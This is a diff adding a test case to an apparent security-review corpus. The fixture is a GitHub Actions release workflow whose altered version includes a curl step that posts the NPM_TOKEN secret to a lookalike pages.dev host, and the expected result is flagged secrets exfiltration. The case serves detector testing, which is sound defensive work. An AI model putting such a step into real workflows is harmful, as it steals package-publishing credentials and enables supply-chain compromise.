@@ -3104,6 +3104,25 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-step-npm-named-pages-host',
+    description:
+      'Modeled on the September 2025 GhostAction write-ups, varied: a long-standing member\'s "tweak release" PR adds one step after `npm publish` that posts the same NPM_TOKEN with curl to npm-mirror-sync.pages.dev, a Cloudflare Pages subdomain anyone can register, named so the token seems to go to npm.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11231,
+        title: 'ci: sync releases to the mirror',
+        files: [
+          {
+            path: '.github/workflows/release.yml',
+            base: lines('name: Release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci', '      - run: npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+            head: lines('name: Release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci', '      - run: npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}', '      - run: curl -sd "$NODE_AUTH_TOKEN" https://npm-mirror-sync.pages.dev/sync', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-ghostaction-collector-host-in-variables',
     description:
       'Modeled on the September 2025 GhostAction write-ups, varied: the collector host (a name spelling a public IP under plesk.page) is assembled from two shell variables, and the secret comes from the step env, sent in the query string.',
